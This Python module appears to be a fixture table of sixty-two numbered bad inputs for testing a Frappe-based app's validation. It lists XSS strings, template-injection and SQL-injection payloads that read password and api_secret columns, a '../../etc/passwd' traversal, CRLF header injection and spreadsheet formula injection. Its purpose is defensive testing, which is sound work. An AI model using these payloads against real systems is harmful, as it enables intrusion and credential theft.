"""Sixty-two bad inputs, by number: what is put into every field, argument, filter, import and cell, or where it is tried.

Values of a kind go wherever a value of that kind is taken; the others are situations, and have a test of their own.
"""

from __future__ import annotations

from collections.abc import Mapping

LONG_NAME = "n" * 141

TEXTS: Mapping[int, tuple[object, ...]] = {
	1: ("<script>alert(1)</script>",),
	2: ("<img src=x onerror=alert(1)>",),
	3: ("javascript:alert(1)",),
	4: ("<svg/onload=alert(1)>",),
	5: ('{{ frappe.db.sql("select 1") }}',),
	6: ("{{ ''.__class__.__mro__ }}",),
	7: ("{% for x in range(10**9) %}",),
	8: ("--><script>alert(1)</script>",),
	9: ("subject\r\nBcc: x@y.example",),
	10: ("name\u202egnp.exe",),
	11: ("nul\x00byte",),
	12: ("😀 e\u0301\u0302\u0303",),
	13: ("n" * 140, LONG_NAME),
	14: ("note " * 200_000,),
	15: ("../../etc/passwd",),
	16: ("a/b%2fc#d?e=f",),
	20: ("%' or 1=1 -- ",),
	23: ("Sales Order` so, tabUser u -- ",),
	26: ("%", "_", "%%__"),
	29: ('=HYPERLINK("http://x/?"&A1,"y")',),
	30: ("+1+1",),
	31: ("-2+3|cmd",),
	32: ("@SUM(1)",),
	33: ("\tSUM(1)", "\rSUM(1)"),
	34: (" =1+1",),
	36: ('a "quoted"\nline; with, all',),
}
"""Texts, wherever a text is taken."""

QUERIES: Mapping[int, Mapping[str, object]] = {
	17: {"order_by": "modified; drop table x"},
	18: {"order_by": "(select sleep(5))"},
	19: {"group_by": "1 union select password from __Auth"},
	20: {"filters": '[["name","like","%\' or 1=1 -- "]]'},
	21: {"filters": '[["name","= 1) or (1","x"]]'},
	22: {"fields": '["name, (select password from __Auth limit 1)"]'},
	26: {"filters": '[["name","like","%"],["name","like","_"]]'},
	27: {"fields": '["*", "tabUser.api_secret"]'},
	28: {"parent": "User"},
}
"""Requests for lists."""

DAYS: Mapping[int, tuple[object, ...]] = {
	37: ("2026-02-30",),
	38: ("0000-00-00",),
	39: ("9999-12-31",),
	40: ("31/12/2026",),
	44: ("2226-11-24",),
	45: ("2026-11-24T10:00:00+02:00",),
	46: ("2027-02-29",),
}
"""Days, wherever a date is taken."""

NUMBERS: Mapping[int, tuple[object, ...]] = {
	35: (-5,),
	42: (0, -1, 10**9, 1.5, float("nan")),
	49: (float("inf"), -0.0, 1e308, "NaN", "1e400"),
}
"""Numbers, wherever a number is taken."""

WORDS: Mapping[int, tuple[object, ...]] = {43: ("Fortnightly",)}
"""A word that no list of choices has."""

SHAPES: Mapping[int, tuple[object, ...]] = {
	24: ({"a": 1}, [*range(1000)]),
	25: (["East shop"], [], {}),
}
"""Something else than one value, wherever one is taken."""

SITUATIONS: Mapping[int, tuple[str, str]] = {
	41: ("site/test_absences.py", "test_an_absence_that_ends_before_it_begins_is_refused"),
	47: ("engine/test_workdays.py", "test_calendar_without_any_working_day_is_refused"),
	48: ("preview/test_facts.py", "test_without_lists_monday_to_friday_is_worked"),
	50: (
		"preview/test_facts.py",
		"test_what_is_owed_in_another_currency_is_converted_at_the_invoices_rate",
	),
	51: ("engine/test_policy.py", "test_lower_bounds_descend_strictly_to_zero"),
	52: ("engine/test_policy.py", "test_weights_that_do_not_add_to_a_hundred_are_refused"),
	53: ("preview/test_facts.py", "test_drafts_cancelled_and_later_invoices_do_not_count"),
	54: ("preview/test_facts.py", "test_disabled_and_internal_customers_are_not_in_the_book"),
	55: (
		"site/test_absences.py",
		"test_only_who_can_log_in_can_be_away_and_what_was_entered_before_stays",
	),
	56: ("engine/test_alliance_life.py", "test_no_merchant_stands_above_itself"),
	57: ("site/test_contact_policy.py", "test_an_address_that_another_customer_has_too_is_said_so"),
	58: ("engine/test_contact_decisions.py", "test_the_last_word_about_an_address_decides"),
	59: (
		"database/test_contact_documents.py",
		"test_a_document_deleted_while_the_night_reads_it_is_withdrawn_whoever_comes_first",
	),
	60: ("site/test_bad_requests.py", "test_a_record_that_is_none_of_ours_opens_no_case"),
	61: ("site/test_bad_requests.py", "test_a_get_changes_nothing"),
	62: ("site/test_bad_requests.py", "test_a_dict_cannot_be_set_past_a_field"),
}
"""By number: the test file of a situation and the test in it."""


def of(kinds: Mapping[int, tuple[object, ...]]) -> list[object]:
	"""Return the values of a kind."""
	return [value for values in kinds.values() for value in values]


def for_field(fieldtype: str) -> list[object]:
	"""Return the bad values of a field, by its type."""
	if fieldtype in ("Date", "Datetime", "Time"):
		return [*of(DAYS), "<script>alert(1)</script>", *of(SHAPES)]
	if fieldtype in ("Int", "Float", "Currency", "Percent", "Check", "Duration"):
		return [*of(NUMBERS), "abc", *of(SHAPES)]
	if fieldtype == "Select":
		return [*of(WORDS), "<script>alert(1)</script>", *of(SHAPES)]
	if fieldtype in ("Table", "Table MultiSelect"):
		return [[{"doctype": "User", "email": "x@y.example"}], "abc", 7, {"a": 1}, ["x"], [[1]]]
	return [*of(TEXTS), *of(SHAPES)]


def for_filter(name: str) -> list[object]:
	"""Return the bad values of a report's filter, by its name."""
	if name.endswith("_date"):
		return for_field("Date")
	return [*of(TEXTS), *of(WORDS), *of(NUMBERS), *of(SHAPES)]


def for_argument(annotation: str) -> list[object]:
	"""Return the bad values of an argument, by its annotation."""
	if annotation.startswith("date"):
		return [*of(DAYS), "<script>alert(1)</script>", *of(SHAPES)]
	if annotation.startswith(("int", "float", "bool")):
		return [*of(NUMBERS), "abc", *of(SHAPES)]
	if "list" in annotation:
		broken = ["[1,", "[[1]]", '[{"a": 1}]', '{"a": 1}', "[null]", '["none"]', "7", '"x"', "[]", "[NaN]"]
		return [*broken, *of(TEXTS), *of(SHAPES)]
	return [*of(TEXTS), *of(DAYS), *of(WORDS), *of(SHAPES)]


def number_of(value: object) -> int:
	"""Return the number of a value in the table; 0 for a shape that an argument adds to it."""
	for kinds in (TEXTS, DAYS, NUMBERS, WORDS, SHAPES):
		for number, values in kinds.items():
			if any(value is each or (type(value) is type(each) and value == each) for each in values):
				return number
	return 0
